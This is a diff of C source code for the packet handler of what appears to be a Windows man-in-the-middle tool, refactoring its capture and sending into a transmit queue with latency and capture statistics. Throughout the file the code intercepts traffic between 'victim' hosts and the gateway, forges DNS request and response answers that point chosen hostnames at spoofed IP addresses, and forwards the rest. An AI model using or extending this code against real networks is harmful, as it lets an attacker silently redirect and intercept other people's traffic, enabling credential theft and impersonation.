@@ -3,20 +3,25 @@
 #include <pcap.h>
 #include <stdio.h>
 
+#include "CaptureStats.h"
 #include "DnsHelper.h"
 #include "DnsPoisoning.h"
 #include "DnsRequestSpoofing.h"
 #include "DnsResponseSpoofing.h"
-#include "LinkedListTargetSystems.h"
+#include "HostTable.h"
+#include "LatencyStats.h"
 #include "Logging.h"
 #include "ModePcap.h"
 #include "NetworkHelperFunctions.h"
+#include "PacketCapture.h"
 #include "PacketHandlerDP.h"
+#include "Probes.h"
+#include "TransmitQueue.h"
 
-#define MAX_INJECT_RETRIES 4
+#define LATENCY_SERVER_NAME "DnsPoisoningLatency"
 
 // Global/external variables
-extern PSYSNODE gTargetSystemsList;
+extern PHOST_TABLE gTargetSystems;
 extern SCANPARAMS gScanParams;
 extern PHOSTNODE gDnsSpoofingList;
 
@@ -24,20 +29,21 @@ extern PHOSTNODE gDnsSpoofingList;
 /*
  * Receive, parse, resend
  *
+ * With LATENCY_STATS_ENV set the latency report is printed on
+ * Ctrl-Break and at the end, and served to local clients of
+ * LATENCY_SERVER_NAME while forwarding.
+ *
  */
 DWORD PacketHandlerDP(PSCANPARAMS lpParam)
 {
   char cwd[MAX_BUF_SIZE + 1];
   char filter[MAX_BUF_SIZE + 1];
   DWORD retVal = 0;
-  char pcapErrorBuffer[PCAP_ERRBUF_SIZE];
-  int counter = 0;
-  int ifcNum = 0;
-  struct bpf_program ifcCode;
+  char captureErrorBuffer[CAPTURE_ERRBUF_SIZE];
   unsigned int netMask = 0;
   int funcRetVal = 0;
-  struct pcap_pkthdr *packetHeader = NULL;
-  unsigned char *packetData = NULL;
+  BOOL latencyServerStarted = FALSE;
+  BOOL captureStatsStarted = FALSE;
 
   // Determine and print current working directory
   GetCurrentDirectory(sizeof(cwd)-1, cwd);
@@ -46,17 +52,18 @@ DWORD PacketHandlerDP(PSCANPARAMS lpParam)
   // Set exit function to trigger depoisoning functions and command.
   SetConsoleCtrlHandler((PHANDLER_ROUTINE)DP_ControlHandler, TRUE);
 
+  ZeroMemory(captureErrorBuffer, sizeof(captureErrorBuffer));
+
   // Open interface.
-  if ((gScanParams.InterfaceReadHandle = pcap_open_live((char *)gScanParams.InterfaceName, 65536, PCAP_OPENFLAG_NOCAPTURE_LOCAL | PCAP_OPENFLAG_MAX_RESPONSIVENESS, PCAP_READTIMEOUT, pcapErrorBuffer)) == NULL)
+  if ((gScanParams.InterfaceReadHandle = CaptureOpen((char *)gScanParams.InterfaceName, 65536, CAPTURE_FLAG_PROMISCUOUS | CAPTURE_FLAG_NOCAPTURE_LOCAL, PCAP_READTIMEOUT, captureErrorBuffer)) == NULL)
   {
-    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to open the adapter");
+    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to open the adapter: %s", captureErrorBuffer);
     retVal = 5;
     goto END;
   }
 
   // MAC == LocalMAC and (IP == GWIP or IP == VictimIP
   gScanParams.InterfaceWriteHandle = gScanParams.InterfaceReadHandle;
-  ZeroMemory(&ifcCode, sizeof(ifcCode));
   ZeroMemory(filter, sizeof(filter));
 
   _snprintf(filter, sizeof(filter) - 1, "ip && ether dst %s && port 53 && not src host %s && not dst host %s", gScanParams.LocalMacStr, gScanParams.LocalIpStr, gScanParams.LocalIpStr);
@@ -64,32 +71,40 @@ DWORD PacketHandlerDP(PSCANPARAMS lpParam)
   netMask = 0xffff; // "255.255.0.0"
   LogMsg(DBG_INFO, "PacketHandlerDP(): Filter=%s", filter);
 
-  if (pcap_compile((pcap_t *)gScanParams.InterfaceWriteHandle, &ifcCode, (const char *)filter, 1, netMask) < 0)
+  if (CaptureSetFilter((PCAPTURE_HANDLE)gScanParams.InterfaceWriteHandle, filter, netMask) == FALSE)
   {
-    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to compile the BPF filter \"%s\"", filter);
-    retVal = 6;
+    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to set the BPF filter \"%s\": %s", filter, CaptureGetError((PCAPTURE_HANDLE)gScanParams.InterfaceWriteHandle));
+    retVal = 7;
     goto END;
   }
 
-  if (pcap_setfilter((pcap_t *)gScanParams.InterfaceWriteHandle, &ifcCode) < 0)
+  if (OpenTransmitQueue(&gScanParams) == FALSE)
   {
-    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to set the BPF filter \"%s\"", filter);
-    retVal = 7;
+    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to create the transmit queue");
+    retVal = 8;
     goto END;
   }
 
-  LogMsg(DBG_INFO, "PacketHandlerDP(): Enter listening/forwarding loop.");
-  while ((funcRetVal = pcap_next_ex((pcap_t*)gScanParams.InterfaceWriteHandle, (struct pcap_pkthdr **) &packetHeader, (const u_char **)&packetData)) >= 0)
+  if (gScanParams.LatencyStats != NULL &&
+      (latencyServerStarted = LatencyStatsServerStart(LATENCY_SERVER_NAME)) == FALSE)
   {
-    if (funcRetVal == 1)
-    {
-      DnsPoisoning_handler((unsigned char *)&gScanParams, packetHeader, packetData);
-    }
+    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to start the latency stats server \"%s\"", LATENCY_SERVER_NAME);
+  }
+
+  CaptureStatsAddHandle("capture", (PCAPTURE_HANDLE)gScanParams.InterfaceReadHandle);
+
+  if (CaptureStatsEnabled() == TRUE &&
+      (captureStatsStarted = CaptureStatsStart(LogCaptureStats)) == FALSE)
+  {
+    LogMsg(DBG_ERROR, "PacketHandlerDP(): Unable to start the capture stats monitor");
   }
 
+  LogMsg(DBG_INFO, "PacketHandlerDP(): Enter listening/forwarding loop (%s)", CaptureGetBackendName((PCAPTURE_HANDLE)gScanParams.InterfaceReadHandle));
+  funcRetVal = CaptureDispatchLoop((PCAPTURE_HANDLE)gScanParams.InterfaceReadHandle, DnsPoisoning_batch_handler, (unsigned char *)&gScanParams);
+
   if (funcRetVal < 0)
   {
-    char *errorMsg = pcap_geterr(gScanParams.InterfaceWriteHandle);
+    char *errorMsg = CaptureGetError((PCAPTURE_HANDLE)gScanParams.InterfaceWriteHandle);
     LogMsg(DBG_ERROR, "PacketHandlerDP(): Listener stopped unexpectedly with return value: %d, %s", funcRetVal, errorMsg);
   }
   else
@@ -99,6 +114,19 @@ DWORD PacketHandlerDP(PSCANPARAMS lpParam)
 
 END:
 
+  if (captureStatsStarted == TRUE)
+  {
+    CaptureStatsStop();
+  }
+
+  CaptureStatsRemove(gScanParams.InterfaceReadHandle);
+
+  if (latencyServerStarted == TRUE)
+  {
+    LatencyStatsServerStop();
+  }
+
+  CloseTransmitQueue(&gScanParams);
   LogMsg(DBG_INFO, "PacketHandlerDP(): Exit");
 
   return retVal;
@@ -106,50 +134,81 @@ END:
 
 
 /*
- * Callback function invoked by libpcap for every incoming packet
+ * Callback function invoked by the capture layer for every
+ * batch of incoming packets. An empty batch means nothing
+ * is waiting, so the queued frames go out now.
+ *
+ */
+void DnsPoisoning_batch_handler(u_char *param, PCAPTURE_BATCH batch)
+{
+  PSCANPARAMS scanParams = (PSCANPARAMS)param;
+  int counter = 0;
+
+  if (batch->FrameCount == 0)
+  {
+    TransmitQueueFlush((PTRANSMIT_QUEUE)scanParams->TransmitQueue);
+    return;
+  }
+
+  for (counter = 0; counter < batch->FrameCount; counter++)
+  {
+    DnsPoisoning_handler(param, batch->Headers[counter], batch->Frames[counter]);
+  }
+}
+
+
+/*
+ * Handle one incoming packet. Forged replies and forwarded
+ * frames are queued with the packet's capture time and
+ * direction as their origin.
  *
  */
 void DnsPoisoning_handler(u_char *param, const struct pcap_pkthdr *pktHeader, const u_char *data)
 {
   PSCANPARAMS scanParams = (PSCANPARAMS)param;
-  PSYSNODE realDstSys = NULL;
+  HOST_ENTRY realDstSys;
   int bytesSent = 0;
   PACKET_INFO packetInfo;
-  char hostName[512];
+  PLATENCY_STATS latencyStats = (PLATENCY_STATS)scanParams->LatencyStats;
+  uint64_t startTime = 0;
+  uint64_t captureTimeUs = 0;
+  int latencyClass = LATENCY_CLASS_OUT;
 
   if (pktHeader == NULL || 
-      pktHeader->len <= 0 || 
+      pktHeader->caplen <= 0 || 
       data == NULL)
   {
     return;
   }
 
-  ZeroMemory(hostName, sizeof(hostName));
-  ZeroMemory(&packetInfo, sizeof(packetInfo));
-  PrepareDataPacketStructure(data, &packetInfo);
-  packetInfo.pcapDataLen = pktHeader->len;
+  PROBE_PACKET_RECEIVED(data, pktHeader->caplen);
 
-  IpBin2String((unsigned char *)&packetInfo.ipHdr->daddr, (unsigned char *)packetInfo.dstIp, sizeof(packetInfo.dstIp) - 1);
-  IpBin2String((unsigned char *)&packetInfo.ipHdr->saddr, (unsigned char *)packetInfo.srcIp, sizeof(packetInfo.srcIp) - 1);
+  if (latencyStats != NULL)
+  {
+    startTime = LatencyStatsNow();
 
-  CopyMemory(&packetInfo.srcIpBin, &packetInfo.ipHdr->saddr, 4);
-  CopyMemory(&packetInfo.dstIpBin, &packetInfo.ipHdr->daddr, 4);
+    if (scanParams->OfflineCapture == FALSE)
+    {
+      captureTimeUs = (uint64_t)pktHeader->ts.tv_sec * 1000000 + (uint64_t)pktHeader->ts.tv_usec;
+    }
+  }
 
-  // Determine Hostname to resolve
-  if ((packetInfo.dstPort == 53 || packetInfo.srcPort == 53) &&
-      packetInfo.udpHdr != NULL &&
-      GetHostnameFromPcapDnsPacket((u_char *)data, hostName, 512) == FALSE)
+  if (PrepareDataPacketStructure(data, pktHeader->caplen, &packetInfo) == FALSE)
   {
-    strcpy(hostName, "UNKNOWN");
+    return;
   }
 
-  snprintf(packetInfo.logMsg, sizeof(packetInfo.logMsg) - 1, "%%-5s %-4s %-15s %5d -> %-15s %-5d    %5d bytes    %s   (%s)",
-    packetInfo.proto, packetInfo.srcIp, packetInfo.srcPort, packetInfo.dstIp,
-    packetInfo.dstPort, packetInfo.pktLen, packetInfo.suffix, hostName);
+  PROBE_PACKET_PARSED(data, packetInfo.view.Layers);
+
+  CopyMemory(&packetInfo.srcIpBin, &packetInfo.ipHdr->saddr, 4);
+  CopyMemory(&packetInfo.dstIpBin, &packetInfo.ipHdr->daddr, 4);
 
   // Destination IP is GW
   if (memcmp(&packetInfo.ipHdr->daddr, scanParams->GatewayIpBin, BIN_IP_LEN) == 0)
   {
+    latencyClass = LATENCY_CLASS_GW;
+    TransmitQueueSetOrigin((PTRANSMIT_QUEUE)scanParams->TransmitQueue, captureTimeUs, LATENCY_CLASS_GW);
+
     if (ProcessData2GW(&packetInfo, scanParams) == FALSE)
     {
       LogMsg(DBG_ERROR, "Unable to send DATA 2 GW");
@@ -157,9 +216,12 @@ void DnsPoisoning_handler(u_char *param, const struct pcap_pkthdr *pktHeader, co
 
   // Destination is victim system
   }
-  else if ((realDstSys = GetNodeByIp(gTargetSystemsList, (unsigned char *)&packetInfo.ipHdr->daddr)) != NULL)
+  else if (HostTableLookupIp(gTargetSystems, (unsigned char *)&packetInfo.ipHdr->daddr, &realDstSys) == TRUE)
   {
-    if (ProcessData2Victim(&packetInfo, realDstSys, scanParams) == FALSE)
+    latencyClass = LATENCY_CLASS_IN;
+    TransmitQueueSetOrigin((PTRANSMIT_QUEUE)scanParams->TransmitQueue, captureTimeUs, LATENCY_CLASS_IN);
+
+    if (ProcessData2Victim(&packetInfo, &realDstSys, scanParams) == FALSE)
     {
       LogMsg(DBG_ERROR, "Unable to send DATA 2 VICTIM");
     }
@@ -167,13 +229,19 @@ void DnsPoisoning_handler(u_char *param, const struct pcap_pkthdr *pktHeader, co
     // Destination IP is not inside the Network range.
     // Forward packet to the GW
   }
-  else if (ProcessData2Internet(&packetInfo, scanParams) == FALSE)
+  else
   {
-    LogMsg(DBG_ERROR, "Unable to send DATA 2 INTERNET");
+    TransmitQueueSetOrigin((PTRANSMIT_QUEUE)scanParams->TransmitQueue, captureTimeUs, LATENCY_CLASS_OUT);
+
+    if (ProcessData2Internet(&packetInfo, scanParams) == FALSE)
+    {
+      LogMsg(DBG_ERROR, "Unable to send DATA 2 INTERNET");
+    }
   }
-  else
+
+  if (latencyStats != NULL)
   {
-    // Data successfully forwarded    
+    LatencyStatsRecordHandler(latencyStats, latencyClass, startTime);
   }
 }
 
@@ -185,48 +253,47 @@ BOOL ProcessData2Internet(PPACKET_INFO packetInfo, PSCANPARAMS scanParams)
 
   // When user sends DNS request to an external DNS server, send back
   // a spoofed answer packet.
-  if (packetInfo->udpHdr != NULL &&
-     (tmpNode = (PPOISONING_DATA)DnsRequestPoisonerGetHost2Spoof(packetInfo->pcapData)) != NULL)
+  if ((packetInfo->view.Layers & PV_LAYER_UDP) &&
+     (tmpNode = (PPOISONING_DATA)DnsRequestPoisonerGetHost2Spoof(packetInfo->pcapData, &packetInfo->view)) != NULL)
   {
     LogMsg(DBG_DEBUG, "Request DNS poisoning C2I succeeded : Requested:%s, Pattern:%s/%s -> %s, MustMatch:%s, IsPattern:%s", tmpNode->HostnameToResolve, tmpNode->HostnodeToSpoof->Data.HostName, tmpNode->HostnodeToSpoof->Data.HostNameWithWildcard, tmpNode->HostnodeToSpoof->Data.SpoofedIp, tmpNode->HostnodeToSpoof->Data.DoesMatch ? "y" : "n", tmpNode->HostnodeToSpoof->Data.IsWildcard ? "y" : "n");
-    retVal = DnsRequestSpoofing(packetInfo->pcapData, (pcap_t *)scanParams->InterfaceWriteHandle, tmpNode, (char *)packetInfo->srcIp, (char *)packetInfo->dstIp);
+    retVal = DnsRequestSpoofing(packetInfo->pcapData, (PTRANSMIT_QUEUE)scanParams->TransmitQueue, tmpNode);
     HeapFree(GetProcessHeap(), 0, tmpNode);
 
     return retVal;
   }
   
-  CopyMemory(packetInfo->etherHdr->ether_dhost, scanParams->GatewayMacBin, BIN_MAC_LEN);
-  CopyMemory(packetInfo->etherHdr->ether_shost, scanParams->LocalMacBin, BIN_MAC_LEN);
-  LogMsg(DBG_INFO, packetInfo->logMsg, "OUT", tmpNode->HostnameToResolve);
+  EtherTemplateApply(packetInfo->pcapData, &scanParams->GatewayTemplate);
+  LogForwardedPacket(packetInfo, "OUT");
 
-  return SendPacket(MAX_INJECT_RETRIES, scanParams->InterfaceWriteHandle, packetInfo->pcapData, packetInfo->pcapDataLen);
+  return TransmitQueueAdd((PTRANSMIT_QUEUE)scanParams->TransmitQueue, packetInfo->pcapData, packetInfo->pcapDataLen);
 }
 
 
-BOOL ProcessData2Victim(PPACKET_INFO packetInfo, PSYSNODE realDstSys, PSCANPARAMS scanParams)
+BOOL ProcessData2Victim(PPACKET_INFO packetInfo, PHOST_ENTRY realDstSys, PSCANPARAMS scanParams)
 {
   PPOISONING_DATA tmpNode = NULL;
   BOOL retVal = FALSE;
   char spoofedDnsPacket[8192] = { 0 };
   int spoofedDnsPacketLen = 0;
 
-  CopyMemory(packetInfo->etherHdr->ether_dhost, realDstSys->data.sysMacBin, BIN_MAC_LEN);
+  CopyMemory(packetInfo->etherHdr->ether_dhost, realDstSys->MacBin, BIN_MAC_LEN);
   CopyMemory(packetInfo->etherHdr->ether_shost, scanParams->LocalMacBin, BIN_MAC_LEN);
-  LogMsg(DBG_INFO, packetInfo->logMsg, "IN", "OH NOOOOOO!");
+  LogForwardedPacket(packetInfo, "IN");
   
   // When user receives DNS response, send back
   // a spoofed answer packet.
-  if (packetInfo->udpHdr != NULL &&
-    (tmpNode = DnsResponsePoisonerGetHost2Spoof(packetInfo->pcapData)) != NULL)
+  if ((packetInfo->view.Layers & PV_LAYER_UDP) &&
+    (tmpNode = DnsResponsePoisonerGetHost2Spoof(packetInfo->pcapData, &packetInfo->view)) != NULL)
   {
     LogMsg(DBG_DEBUG, "Response DNS poisoning *2C succeeded: ReqHost:%s, Pattern:%s/%s -> SpoofedIP:%s, MustMatch:%s, IsPattern:%s", tmpNode->HostnameToResolve, tmpNode->HostnodeToSpoof->Data.HostName, tmpNode->HostnodeToSpoof->Data.HostNameWithWildcard, tmpNode->HostnodeToSpoof->Data.SpoofedIp, tmpNode->HostnodeToSpoof->Data.DoesMatch ? "y" : "n", tmpNode->HostnodeToSpoof->Data.IsWildcard ? "y" : "n");
-    retVal = DnsResponseSpoofing(packetInfo->pcapData, (pcap_t *)scanParams->InterfaceWriteHandle, tmpNode, (char *)packetInfo->srcIp, (char *)packetInfo->dstIp);
+    retVal = DnsResponseSpoofing(packetInfo->pcapData, (PTRANSMIT_QUEUE)scanParams->TransmitQueue, tmpNode);
     HeapFree(GetProcessHeap(), 0, tmpNode);
 
     return retVal;
   }
 
-  return SendPacket(MAX_INJECT_RETRIES, scanParams->InterfaceWriteHandle, packetInfo->pcapData, packetInfo->pcapDataLen);
+  return TransmitQueueAdd((PTRANSMIT_QUEUE)scanParams->TransmitQueue, packetInfo->pcapData, packetInfo->pcapDataLen);
 }
 
 
@@ -236,81 +303,165 @@ BOOL ProcessData2GW(PPACKET_INFO packetInfo, PSCANPARAMS scanParams)
 
   // When user sends DNS request to the gateway, send back
   // a spoofed answer packet.
-  if (packetInfo->udpHdr != NULL &&
-      (tmpNode = DnsRequestPoisonerGetHost2Spoof(packetInfo->pcapData)) != NULL)
+  if ((packetInfo->view.Layers & PV_LAYER_UDP) &&
+      (tmpNode = DnsRequestPoisonerGetHost2Spoof(packetInfo->pcapData, &packetInfo->view)) != NULL)
   {
     LogMsg(DBG_DEBUG, "Request DNS poisoning C2GW succeeded: ReqHost:%s, Pattern:%s/%s -> SpoofedIP:%s/%s, MustMatch:%s, IsPattern:%s", tmpNode->HostnameToResolve, tmpNode->HostnodeToSpoof->Data.HostName, tmpNode->HostnodeToSpoof->Data.HostNameWithWildcard, tmpNode->HostnodeToSpoof->Data.SpoofedIp, tmpNode->HostnodeToSpoof->Data.CnameHost, tmpNode->HostnodeToSpoof->Data.DoesMatch ? "y" : "n", tmpNode->HostnodeToSpoof->Data.IsWildcard?"y": "n");
-    return  DnsRequestSpoofing(packetInfo->pcapData, (pcap_t *)scanParams->InterfaceWriteHandle, tmpNode, (char *)packetInfo->srcIp, (char *)packetInfo->dstIp);
+    return  DnsRequestSpoofing(packetInfo->pcapData, (PTRANSMIT_QUEUE)scanParams->TransmitQueue, tmpNode);
   }
 
-  CopyMemory(packetInfo->etherHdr->ether_dhost, scanParams->GatewayMacBin, BIN_MAC_LEN);
-  CopyMemory(packetInfo->etherHdr->ether_shost, scanParams->LocalMacBin, BIN_MAC_LEN);
-  LogMsg(DBG_INFO, packetInfo->logMsg, "GW", "OH NOOOOO!!!");
+  EtherTemplateApply(packetInfo->pcapData, &scanParams->GatewayTemplate);
+  LogForwardedPacket(packetInfo, "GW");
 
   HeapFree(GetProcessHeap(), 0, tmpNode);
-  return SendPacket(MAX_INJECT_RETRIES, scanParams->InterfaceWriteHandle, packetInfo->pcapData, packetInfo->pcapDataLen);
+  return TransmitQueueAdd((PTRANSMIT_QUEUE)scanParams->TransmitQueue, packetInfo->pcapData, packetInfo->pcapDataLen);
 }
 
 
-void PrepareDataPacketStructure(const u_char *data, PPACKET_INFO packetInfo)
+/*
+ * Decode the frame once. Everything downstream works
+ * on the offsets in packetInfo->view.
+ *
+ */
+BOOL PrepareDataPacketStructure(const u_char *data, unsigned int dataLength, PPACKET_INFO packetInfo)
 {
   ZeroMemory(packetInfo, sizeof(PACKET_INFO));
 
-  packetInfo->pcapData = (u_char*)data;
-  packetInfo->etherHdr = (PETHDR)data;
-  packetInfo->ipHdr = (PIPHDR)(data + 14);
-  packetInfo->ipHdrLen = (packetInfo->ipHdr->ver_ihl & 0xf) * 4;
-
-  if (packetInfo->ipHdr->proto == IP_PROTO_TCP) // TCP
+  if (PacketViewParse(data, dataLength, &packetInfo->view) == FALSE ||
+      (packetInfo->view.Layers & PV_LAYER_IPV4) == 0)
   {
-    packetInfo->tcpHdr = (PTCPHDR)((unsigned char*)packetInfo->ipHdr + packetInfo->ipHdrLen);
-    strcat(packetInfo->proto, "TCP");
-
-    packetInfo->pktLen = ntohs(packetInfo->ipHdr->tlen) - packetInfo->ipHdrLen - packetInfo->tcpHdr->doff * 4;
-    packetInfo->dstPort = ntohs(packetInfo->tcpHdr->dport);
-    packetInfo->srcPort = ntohs(packetInfo->tcpHdr->sport);
-    snprintf(packetInfo->suffix, sizeof(packetInfo->suffix) - 1, "[%s%s%s%s%s%s]",
-      packetInfo->tcpHdr->ack ? "a" : " ",
-      packetInfo->tcpHdr->syn ? "s" : " ",
-      packetInfo->tcpHdr->psh ? "p" : " ",
-      packetInfo->tcpHdr->fin ? "f" : " ",
-      packetInfo->tcpHdr->rst ? "r" : " ",
-      packetInfo->tcpHdr->urg ? "u" : " ");
+    return FALSE;
   }
-  else if (packetInfo->ipHdr->proto == 17) // UDP
+
+  packetInfo->pcapData = (u_char *)data;
+  packetInfo->pcapDataLen = dataLength;
+  packetInfo->etherHdr = PV_ETH(data);
+  packetInfo->ipHdr = PV_IP(data, &packetInfo->view);
+  packetInfo->proto = PacketViewProtoName(&packetInfo->view);
+
+  return TRUE;
+}
+
+
+/*
+ * The packet handlers only carry binary addresses. The
+ * text line and the DNS hostname are produced here and
+ * only if the line actually gets written to the log.
+ *
+ */
+void LogForwardedPacket(PPACKET_INFO packetInfo, char *directionParam)
+{
+  char srcIp[MAX_IP_LEN + 1];
+  char dstIp[MAX_IP_LEN + 1];
+  char suffix[16];
+  char hostName[512];
+
+  if (LogLevelEnabled(DBG_INFO) == FALSE)
   {
-    packetInfo->udpHdr = (PUDPHDR)((unsigned char*)packetInfo->ipHdr + packetInfo->ipHdrLen);
-    strcat(packetInfo->proto, "UDP");
-    packetInfo->pktLen = ntohs(packetInfo->udpHdr->ulen);
-    packetInfo->dstPort = ntohs(packetInfo->udpHdr->dport);
-    packetInfo->srcPort = ntohs(packetInfo->udpHdr->sport);
+    return;
   }
-  else if (packetInfo->ipHdr->proto == 1)
+
+  ZeroMemory(srcIp, sizeof(srcIp));
+  ZeroMemory(dstIp, sizeof(dstIp));
+  ZeroMemory(suffix, sizeof(suffix));
+  ZeroMemory(hostName, sizeof(hostName));
+
+  IpBin2String((unsigned char *)&packetInfo->srcIpBin, (unsigned char *)srcIp, sizeof(srcIp) - 1);
+  IpBin2String((unsigned char *)&packetInfo->dstIpBin, (unsigned char *)dstIp, sizeof(dstIp) - 1);
+
+  if (packetInfo->view.Layers & PV_LAYER_TCP)
   {
-    strcat(packetInfo->proto, "ICMP");
+    snprintf(suffix, sizeof(suffix) - 1, "[%s%s%s%s%s%s]",
+      packetInfo->view.TcpFlags & PV_TCP_ACK ? "a" : " ",
+      packetInfo->view.TcpFlags & PV_TCP_SYN ? "s" : " ",
+      packetInfo->view.TcpFlags & PV_TCP_PSH ? "p" : " ",
+      packetInfo->view.TcpFlags & PV_TCP_FIN ? "f" : " ",
+      packetInfo->view.TcpFlags & PV_TCP_RST ? "r" : " ",
+      packetInfo->view.TcpFlags & PV_TCP_URG ? "u" : " ");
   }
-  else
+
+  // Determine Hostname to resolve
+  if ((packetInfo->view.DstPort == 53 || packetInfo->view.SrcPort == 53) &&
+      (packetInfo->view.Layers & PV_LAYER_UDP) &&
+      GetHostnameFromPcapDnsPacket(packetInfo->pcapData, &packetInfo->view, (u_char *)hostName, sizeof(hostName)) == FALSE)
   {
-    strcat(packetInfo->proto, "Unknown");
+    strcpy(hostName, "UNKNOWN");
   }
+
+  LogMsg(DBG_INFO, "%-5s %-4s %-15s %5d -> %-15s %-5d    %5d bytes    %s   (%s)",
+    directionParam, packetInfo->proto, srcIp, packetInfo->view.SrcPort, dstIp,
+    packetInfo->view.DstPort, packetInfo->view.PayloadLength, suffix, hostName);
 }
 
 
-BOOL SendPacket(int maxTries, LPVOID writeHandle, u_char *data, unsigned int dataSize)
+/*
+ * Forwarded frames and forged DNS answers leave through
+ * one transmit queue on the interface write handle.
+ * Frames to the gateway get their addresses from
+ * scanParams->GatewayTemplate, built here. The latency
+ * stats are set up with the queue.
+ *
+ */
+BOOL OpenTransmitQueue(PSCANPARAMS scanParams)
 {
-  BOOL retVal = FALSE;
+  PTRANSMIT_QUEUE transmitQueue = NULL;
 
-  for (int counter = 0; counter < maxTries; counter++)
+  EtherTemplateBuild(&scanParams->GatewayTemplate, scanParams->GatewayMacBin, scanParams->LocalMacBin);
+
+  if ((transmitQueue = TransmitQueueCreate((PCAPTURE_HANDLE)scanParams->InterfaceWriteHandle, TRANSMIT_QUEUE_DEFAULT_FRAMES, TRANSMIT_QUEUE_DEFAULT_DELAY)) == NULL)
   {
-    if (pcap_sendpacket(writeHandle, data, dataSize) == 0)
+    return FALSE;
+  }
+
+  TransmitQueueSetErrorHandler(transmitQueue, DnsPoisoningTransmitError, scanParams);
+  scanParams->TransmitQueue = transmitQueue;
+
+  if (LatencyStatsEnabled() == TRUE)
+  {
+    if ((scanParams->LatencyStats = LatencyStatsCreate()) == NULL)
+    {
+      LogMsg(DBG_ERROR, "OpenTransmitQueue(): Unable to allocate the latency stats");
+    }
+    else
     {
-      retVal = TRUE;
-      break;
+      TransmitQueueSetSentHandler(transmitQueue, LatencyStatsSentHandler, scanParams->LatencyStats);
     }
-fprintf(stderr, "\nError sending the packet: %s\n", pcap_geterr(writeHandle));
   }
 
-  return retVal;
+  return TRUE;
+}
+
+
+/*
+ * Flush and release the transmit queue. Must run
+ * before the write handle is closed. The latency
+ * report is printed once the queue is flushed.
+ *
+ */
+void CloseTransmitQueue(PSCANPARAMS scanParams)
+{
+  PTRANSMIT_QUEUE transmitQueue = (PTRANSMIT_QUEUE)scanParams->TransmitQueue;
+
+  if (transmitQueue == NULL)
+  {
+    return;
+  }
+
+  scanParams->TransmitQueue = NULL;
+  TransmitQueueDestroy(transmitQueue);
+
+  if (scanParams->LatencyStats != NULL)
+  {
+    LatencyStatsPrint();
+    LatencyStatsDestroy((PLATENCY_STATS)scanParams->LatencyStats);
+    scanParams->LatencyStats = NULL;
+  }
+}
+
+
+void DnsPoisoningTransmitError(void *contextParam, unsigned int failedFramesParam, char *errorParam)
+{
+  LogMsg(DBG_ERROR, "DnsPoisoningTransmitError(): %u frames not sent: %s", failedFramesParam, errorParam);
 }
 
 
@@ -332,6 +483,13 @@ BOOL DP_ControlHandler(DWORD pControlType)
     return FALSE;
 
   case CTRL_BREAK_EVENT:
+    // Latency report instead of exiting
+    if (LatencyStatsEnabled() == TRUE)
+    {
+      LatencyStatsPrint();
+      return TRUE;
+    }
+
     LogMsg(DBG_INFO, "Ctrl-Break event : Starting depoisoning process");
     CloseAllPcapHandles();
     LogMsg(DBG_INFO, "Ctrl-Break event : pcap closed");
@@ -361,27 +519,35 @@ BOOL DP_ControlHandler(DWORD pControlType)
 
 void CloseAllPcapHandles()
 {
+  CloseTransmitQueue(&gScanParams);
+
   if (gScanParams.PcapFileHandle != NULL)
   {
     LogMsg(DBG_INFO, "CloseAllPcapHandles(): Closing gScanParams.PcapFileHandle");
-    pcap_breakloop(gScanParams.PcapFileHandle);
-    pcap_close(gScanParams.PcapFileHandle);
+    CaptureBreakLoop(gScanParams.PcapFileHandle);
+    CaptureClose(gScanParams.PcapFileHandle);
+    gScanParams.PcapFileHandle = NULL;
     LogMsg(DBG_INFO, "CloseAllPcapHandles(): Closing gScanParams.PcapFileHandle done");
   }
 
-  if (gScanParams.InterfaceWriteHandle != NULL)
+  // Read and write handle usually are the same capture handle.
+  if (gScanParams.InterfaceWriteHandle != NULL &&
+      gScanParams.InterfaceWriteHandle != gScanParams.InterfaceReadHandle)
   {
     LogMsg(DBG_INFO, "CloseAllPcapHandles(): Closing gScanParams.InterfaceWriteHandle");
-    pcap_breakloop(gScanParams.InterfaceWriteHandle);
-    pcap_close(gScanParams.InterfaceWriteHandle);
+    CaptureBreakLoop(gScanParams.InterfaceWriteHandle);
+    CaptureClose(gScanParams.InterfaceWriteHandle);
     LogMsg(DBG_INFO, "CloseAllPcapHandles(): Closing gScanParams.InterfaceWriteHandle done");
   }
 
+  gScanParams.InterfaceWriteHandle = NULL;
+
   if (gScanParams.InterfaceReadHandle != NULL)
   {
     LogMsg(DBG_INFO, "CloseAllPcapHandles(): Closing gScanParams.InterfaceReadHandle");
-    pcap_breakloop(gScanParams.InterfaceReadHandle);
-    pcap_close(gScanParams.InterfaceReadHandle);
+    CaptureBreakLoop(gScanParams.InterfaceReadHandle);
+    CaptureClose(gScanParams.InterfaceReadHandle);
+    gScanParams.InterfaceReadHandle = NULL;
     LogMsg(DBG_INFO, "CloseAllPcapHandles(): Closing gScanParams.InterfaceReadHandle done");
   }
 }